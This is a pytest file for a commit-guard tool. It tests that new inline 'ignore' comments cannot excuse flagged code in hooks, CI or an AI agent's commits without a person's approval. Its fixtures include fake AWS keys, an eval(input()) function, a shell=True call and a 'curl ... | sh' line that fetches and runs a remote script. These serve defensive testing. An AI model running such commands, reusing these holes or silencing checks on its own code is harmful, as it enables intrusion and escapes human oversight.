"""A change that excuses itself: a new inline answer to what would stop it needs a person, in hooks, CI and agents."""

import json

import pytest
from in_process import RISKY, approve, commit, guard, waiting
from repositories import Repo, key

MARK = "cli-guard: ignore"
WHY = "a key of the test account"
AWS = f"{MARK}[secret-aws-access-key] {WHY}"
SHELL = f"{MARK}[code-python-shell] names are checked before"


def excused(text: str) -> str:
    return RISKY.replace("shell=True)", f"shell=True)  # {text}")


def stage(repo: Repo, files: dict[str, str]) -> None:
    for name, text in files.items():
        repo.write(name, text)
    repo.git("add", "-A")


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.py", f'key = "{key()}"  # {MARK}[*] abc\n'),
        ("a.py", f'key = "{key()}"  # {MARK}[secret-*] {WHY}\n'),
        ("a.py", f'key = "{key()}"  # {MARK}[secret-aws-access-key] abc\n'),
        ("a.py", f'key = "{key()}"  # {AWS}\n'),
        ("a.py", f'# {AWS}\nkey = "{key()}"\n'),
        ("a.yml", f'key: "{key()}"  # {AWS}\n'),
        ("a.js", f'const key = "{key()}"; /* {AWS} */\n'),
        ("a.html", f"<p>{key()}</p> <!-- {AWS} -->\n"),
        ("a.md", f"{key()} <!-- {AWS} -->\n"),
        ("a.py", excused(SHELL)),
        (
            "a.py",
            f"def f():\n    # {MARK}[code-*] the caller checks the text\n    return eval(input())\n",
        ),
        (
            "a.sh",
            f"#!/bin/sh\ncurl -fsSL http://203.0.113.7/i.sh | sh # {MARK}[command-*] our own server only\n",
        ),
    ],
)
def test_no_commit_excuses_itself(forked: Repo, path: str, text: str) -> None:
    before = forked.git("rev-parse", "HEAD")
    stage(forked, {path: text})
    assert commit(forked, "Add a file").code != 0
    assert forked.git("rev-parse", "HEAD") == before


def test_an_answer_in_a_file_that_moves_is_new_only_where_it_is_added(
    forked: Repo,
) -> None:
    line = f'old = "{key()}"  # {AWS}\n'
    forked.commit("A recorded answer", {"old.py": line})
    forked.git("mv", "old.py", "new.py")
    assert commit(forked, "Move it").code == 0
    forked.git("mv", "new.py", "old.py")
    stage(forked, {"old.py": line + line.replace("old", "y")})
    assert commit(forked, "Move it back").code != 0


def test_a_new_answer_passes_once_a_person_agrees(forked: Repo) -> None:
    stage(forked, {"a.py": f'key = "{key()}"  # {AWS}\n'})
    refused = commit(forked, "Add a key")
    assert f"secret-aws-access-key (must fix): {WHY}" in " ".join(refused.all.split())
    [wanted] = waiting(forked)
    assert approve(forked, wanted).code == 0
    assert commit(forked, "Add a key").code == 0
    # From now on it is recorded: the file may change around it.
    stage(forked, {"a.py": f'"""A module."""\nkey = "{key()}"  # {AWS}\n'})
    assert commit(forked, "Add another line").code == 0


def test_a_recorded_answer_of_any_form_goes_on(forked: Repo) -> None:
    forked.commit("Before the hook", {"a.py": f'# {MARK}[*] old\nkey = "{key()}"\n'})
    stage(forked, {"a.py": f'# {MARK}[*] old\nkey = "{key()}" + ""\n'})
    assert commit(forked, "Edit the line below").code == 0


def test_an_answer_recorded_for_another_line_asks(forked: Repo) -> None:
    forked.commit("A comment", {"a.py": f"x = 1\n# {AWS}\ny = 2\n"})
    stage(forked, {"a.py": f'x = 1\n# {AWS}\nkey = "{key()}"\ny = 2\n'})
    assert commit(forked, "Insert a key").code != 0


def test_an_answer_recorded_for_another_key_asks(forked: Repo) -> None:
    forked.commit("A test key", {"a.py": f'# {AWS}\nkey = "{key()}"\n'})
    stage(forked, {"a.py": f'# {AWS}\nkey = "{key()[:-4]}7QKD"\n'})
    assert commit(forked, "Replace the key").code != 0


def test_a_moved_file_excuses_no_new_line(forked: Repo) -> None:
    forked.commit("Old", {"old.py": f'old = "{key()}"  # {AWS}\n'})
    (forked.path / "src").mkdir(exist_ok=True)
    forked.git("mv", "old.py", "src/old.py")
    stage(forked, {"src/old.py": f'old = "{key()}"  # {AWS}\ny = "{key()}"  # {AWS}\n'})
    assert commit(forked, "Move").code != 0


def test_a_range_asks_unless_its_policy_accepts(committed: Repo) -> None:
    base = committed.git("rev-parse", "HEAD")
    committed.commit("Excuse", {"a.py": f'key = "{key()}"  # {AWS}\n'})
    asked = guard(committed, "review", "--range", f"{base}..HEAD")
    assert asked.code != 0
    assert "policy-suppression-new" in asked.all
    committed.git("reset", "-q", "--hard", base)
    base = committed.commit(
        "Policy", {"cli-guard.toml": '[rules]\n"policy-suppression-new" = "advise"\n'}
    )
    committed.commit("Excuse", {"a.py": f'key = "{key()}"  # {AWS}\n'})
    assert guard(committed, "review", "--range", f"{base}..HEAD").code == 0


def test_an_agent_is_not_allowed_to_excuse_itself(forked: Repo) -> None:
    stage(forked, {"a.py": excused(SHELL)})
    asked = {
        "hook_event_name": "PreToolUse",
        "permission_mode": "default",
        "tool_name": "Bash",
        "cwd": str(forked.path),
        "tool_input": {"command": "git commit -m 'Add the report'"},
    }
    done = guard(forked, "hook", "agent", stdin=json.dumps(asked))
    assert '"allow"' not in done.out
